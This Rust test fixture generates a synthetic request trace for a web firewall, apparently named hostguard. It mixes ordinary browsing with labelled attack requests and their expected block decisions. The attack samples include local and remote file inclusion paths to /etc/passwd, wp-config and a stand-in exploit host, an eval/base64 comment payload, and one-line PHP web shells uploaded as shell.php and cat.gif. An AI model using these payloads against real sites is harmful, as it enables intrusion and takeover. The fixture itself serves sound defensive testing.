//! A mixed request trace: background browsing with the documented attack
//! cases at known positions.

use std::net::IpAddr;

use chrono::{DateTime, TimeDelta, Utc};
use hostguard::gateway::{Decision, HttpRequestRecord, LoginOutcome, Method, Stage, UploadPart};
use rand::seq::SliceRandom;
use rand::Rng;
use rand_chacha::ChaCha8Rng;

pub const TRACE_LEN: usize = 1000;
pub const TRACE_START: &str = "2024-03-01T10:00:00.000Z";

/// Geo table matching the trace: 203.0.113.128/25 sits in blocked country
/// `XA`, except for a crawler range carved out by policy.
pub const GEO_TABLE: &str = "# test geo table\n198.51.100.0/24,XB\n203.0.113.128/25,XA\n2001:db8:a::/48,XB\n";

pub const BROWSERS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
];

const PAGES: &[&str] = &[
    "/", "/index.php", "/about-us/", "/contact/", "/blog/", "/shop/", "/post/118", "/post/2045", "/category/news/",
    "/wp-content/themes/site/style.css", "/wp-includes/js/jquery/jquery.min.js", "/feed/", "/sitemap.xml",
];

const SEARCHES: &[&str] = &["garden chairs", "opening hours", "gift card", "parking", "vegan menu", "100% cotton"];

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TraceCase {
    pub name: &'static str,
    pub index: usize,
    pub decision: Decision,
    pub stage: Stage,
    pub reason: &'static str,
}

#[derive(Debug, Clone)]
pub struct Trace {
    pub requests: Vec<HttpRequestRecord>,
    /// Positions of the documented cases and what they must produce.
    pub cases: Vec<TraceCase>,
    /// The 201-request burst, in trace positions.
    pub burst: std::ops::Range<usize>,
    /// The address with the most blocked requests.
    pub dominant_offender: IpAddr,
}

impl Trace {
    pub fn to_jsonl(&self) -> String {
        let mut s = String::new();
        for r in &self.requests {
            s.push_str(&r.to_json_line());
            s.push('\n');
        }
        s
    }

    pub fn case(&self, name: &str) -> &TraceCase {
        self.cases
            .iter()
            .find(|c| c.name == name)
            .unwrap_or_else(|| panic!("no trace case {name}"))
    }
}

struct Builder {
    rng: ChaCha8Rng,
    now: DateTime<Utc>,
    reqs: Vec<HttpRequestRecord>,
    cases: Vec<TraceCase>,
    visitors: Vec<IpAddr>,
}

impl Builder {
    fn tick(&mut self, lo: i64, hi: i64) {
        self.now += TimeDelta::milliseconds(self.rng.gen_range(lo..hi));
    }

    fn browser(&mut self) -> &'static str {
        BROWSERS.choose(&mut self.rng).expect("nonempty")
    }

    fn req(&mut self, ip: &str, method: Method, target: &str) -> HttpRequestRecord {
        let ua = self.browser();
        HttpRequestRecord::new(ip.parse().expect("fixture ip"), method, target, self.now).with_header("User-Agent", ua)
    }

    fn push(&mut self, r: HttpRequestRecord) -> usize {
        self.reqs.push(r);
        self.tick(50, 400);
        self.reqs.len() - 1
    }

    fn case(&mut self, name: &'static str, r: HttpRequestRecord, decision: Decision, stage: Stage, reason: &'static str) {
        let index = self.push(r);
        self.cases.push(TraceCase {
            name,
            index,
            decision,
            stage,
            reason,
        });
    }

    fn background(&mut self, n: usize) {
        for _ in 0..n {
            let ip = *self.visitors.choose(&mut self.rng).expect("nonempty");
            let ua = self.browser();
            let mut r = match self.rng.gen_range(0..10) {
                0 => {
                    let q = SEARCHES.choose(&mut self.rng).expect("nonempty").replace('%', "%25").replace(' ', "+");
                    HttpRequestRecord::new(ip, Method::Get, &format!("/?s={q}"), self.now)
                }
                1 => {
                    let mut r = HttpRequestRecord::new(ip, Method::Post, "/wp-comments-post.php", self.now);
                    r.body_params = vec![
                        ("comment".into(), "Thanks+for+the+update%2C+see+you+Saturday%21".into()),
                        ("comment_post_ID".into(), self.rng.gen_range(100..3000).to_string()),
                    ];
                    r
                }
                2 => HttpRequestRecord::new(ip, Method::Get, &format!("/index.php?page=about-us&lang=en&p={}", self.rng.gen_range(1..500)), self.now),
                _ => {
                    let page = PAGES.choose(&mut self.rng).expect("nonempty");
                    HttpRequestRecord::new(ip, Method::Get, page, self.now)
                }
            };
            r = r.with_header("User-Agent", ua).with_header("Accept", "text/html");
            self.push(r);
        }
    }
}

fn login(b: &mut Builder, ip: &str, outcome: LoginOutcome) -> HttpRequestRecord {
    let mut r = b.req(ip, Method::Post, "/wp-login.php");
    r.body_params = vec![("log".into(), "admin".into()), ("pwd".into(), "hunter2".into())];
    r.login_outcome = Some(outcome);
    r
}

fn upload(b: &mut Builder, ip: &str, filename: &str, bytes: &[u8]) -> HttpRequestRecord {
    let mut r = b.req(ip, Method::Post, "/wp-admin/async-upload.php");
    r.upload_parts.push(UploadPart {
        field: "async-upload".into(),
        filename: filename.into(),
        size: bytes.len() as u64 + 2048,
        first_bytes: bytes.to_vec(),
    });
    r
}

/// Builds the [`TRACE_LEN`]-request trace for `seed`.
pub fn mixed_trace(seed: u64) -> Trace {
    let mut rng = crate::rng(seed);
    let mut visitors: Vec<IpAddr> = (0..40)
        .map(|_| format!("198.51.100.{}", rng.gen_range(1..255)).parse().expect("ip"))
        .collect();
    visitors.extend((0..6).map(|i| -> IpAddr { format!("2001:db8:a::{:x}", 0x100 + i).parse().expect("ip") }));
    visitors.sort();
    visitors.dedup();
    let mut b = Builder {
        rng,
        now: hostguard::timefmt::parse(TRACE_START).expect("constant timestamp"),
        reqs: Vec::new(),
        cases: Vec::new(),
        visitors,
    };
    use Decision::*;

    b.background(120);
    let r = b.req("203.0.113.7", Method::Get, "/index.php?controller=../../../etc/passwd");
    b.case("lfi", r, Block, Stage::Inclusion, "LFI");
    b.background(30);
    let r = b.req("203.0.113.8", Method::Get, "/index.php?controller=http://www.virus.com/exploit.txt");
    b.case("rfi", r, Block, Stage::Inclusion, "RFI");
    b.background(30);
    let r = HttpRequestRecord::new("203.0.113.9".parse().expect("ip"), Method::Get, "/", b.now)
        .with_header("User-Agent", "curl/7.68.0");
    b.case("curl_agent", r, Block, Stage::Agent, "AGENT_BLOCKED");
    b.background(20);

    // three failures, then the attempt that must be challenged
    for (i, name) in ["login_1", "login_2", "login_3"].into_iter().enumerate() {
        let r = login(&mut b, "203.0.113.11", LoginOutcome::Failure);
        b.case(name, r, Allow, Stage::Clean, "");
        b.background(3 + i);
    }
    let r = login(&mut b, "203.0.113.11", LoginOutcome::Failure);
    b.case("login_4", r, Challenge, Stage::LoginRate, "FAILED_LOGINS");
    b.background(25);

    let r = upload(&mut b, "203.0.113.10", "shell.php", b"<?php echo shell_exec($_GET['c']); ?>");
    b.case("upload_shell", r, Block, Stage::Upload, "UPLOAD_EXTENSION");
    b.background(15);

    // repeat visits from the LFI source hit the blacklist
    for i in 0..6 {
        let r = b.req("203.0.113.7", Method::Get, &format!("/index.php?controller=page{i}"));
        let name = ["repeat_0", "repeat_1", "repeat_2", "repeat_3", "repeat_4", "repeat_5"][i];
        b.case(name, r, Block, Stage::Blacklist, "BLACKLISTED");
        b.background(4);
    }

    let extras: Vec<(&'static str, HttpRequestRecord, Decision, Stage, &'static str)> = {
        let mut v = Vec::new();
        let r = b.req("203.0.113.20", Method::Get, "/index.php?file=..%2F..%2F..%2Fetc%2Fpasswd");
        v.push(("lfi_encoded", r, Block, Stage::Inclusion, "LFI"));
        let r = b.req("203.0.113.21", Method::Get, "/index.php?page=php://filter/convert.base64-encode/resource=wp-config");
        v.push(("rfi_wrapper", r, Block, Stage::Inclusion, "RFI"));
        let mut r = b.req("203.0.113.22", Method::Post, "/wp-comments-post.php");
        r.body_params = vec![("comment".into(), "eval(base64_decode('ZWNobyAxOw=='));".into())];
        v.push(("payload_eval", r, Block, Stage::Payload, "PAYLOAD_SIGNATURE"));
        let mut r = b.req("203.0.113.23", Method::Get, "/");
        r.headers = vec![("User-Agent".into(), "Wget/1.21.2".into())];
        v.push(("wget_agent", r, Block, Stage::Agent, "AGENT_BLOCKED"));
        let mut r = b.req("203.0.113.24", Method::Get, "/xmlrpc.php");
        r.headers.clear();
        v.push(("missing_agent", r, Block, Stage::Agent, "AGENT_MISSING"));
        let r = upload(&mut b, "203.0.113.25", "avatar.php.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF");
        v.push(("upload_double_ext", r, Block, Stage::Upload, "UPLOAD_EXTENSION"));
        let r = upload(&mut b, "203.0.113.26", "cat.gif", b"<?php system($_GET['x']);");
        v.push(("upload_php_content", r, Block, Stage::Upload, "UPLOAD_PHP_CONTENT"));
        let r = upload(&mut b, "198.51.100.250", "holiday.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00");
        v.push(("upload_photo", r, Allow, Stage::Clean, ""));
        let r = b.req("203.0.113.140", Method::Get, "/");
        v.push(("geo_blocked", r, Block, Stage::Geo, "GEO_BLOCKED"));
        let r = b.req("203.0.113.200", Method::Get, "/sitemap.xml");
        v.push(("geo_crawler", r, Allow, Stage::Clean, ""));
        let r = b.req("203.0.113.27", Method::Get, "/?q=%25252e%25252e%25252fetc");
        v.push(("encoding_depth", r, Block, Stage::Inclusion, "ENCODING_DEPTH"));
        v
    };
    for (name, mut r, d, s, code) in extras {
        r.received_at = b.now;
        b.case(name, r, d, s, code);
        b.background(6);
    }

    // an editor fumbles the password twice, then gets it right
    for (name, o) in [("editor_1", LoginOutcome::Failure), ("editor_2", LoginOutcome::Failure), ("editor_ok", LoginOutcome::Success), ("editor_4", LoginOutcome::Failure)] {
        let r = login(&mut b, "198.51.100.251", o);
        b.case(name, r, Allow, Stage::Clean, "");
        b.background(2);
    }

    // quiet, then 201 requests inside 800 ms, then quiet again
    b.now += TimeDelta::milliseconds(1500);
    let start = b.reqs.len();
    let t_burst = b.now;
    for i in 0..201 {
        let ip = *b.visitors.choose(&mut b.rng).expect("nonempty");
        let ua = b.browser();
        let r = HttpRequestRecord::new(ip, Method::Get, "/", t_burst + TimeDelta::milliseconds(i * 4)).with_header("User-Agent", ua);
        b.reqs.push(r);
    }
    let burst = start..b.reqs.len();
    b.cases.push(TraceCase {
        name: "burst_200",
        index: burst.start + 199,
        decision: Allow,
        stage: Stage::Clean,
        reason: "",
    });
    b.cases.push(TraceCase {
        name: "burst_201",
        index: burst.start + 200,
        decision: Challenge,
        stage: Stage::RequestRate,
        reason: "RATE_LIMIT",
    });
    b.now = t_burst + TimeDelta::milliseconds(800 + 1500);

    let rest = TRACE_LEN - b.reqs.len();
    b.background(rest);
    assert_eq!(b.reqs.len(), TRACE_LEN);
    Trace {
        requests: b.reqs,
        cases: b.cases,
        burst,
        dominant_offender: "203.0.113.7".parse().expect("ip"),
    }
}
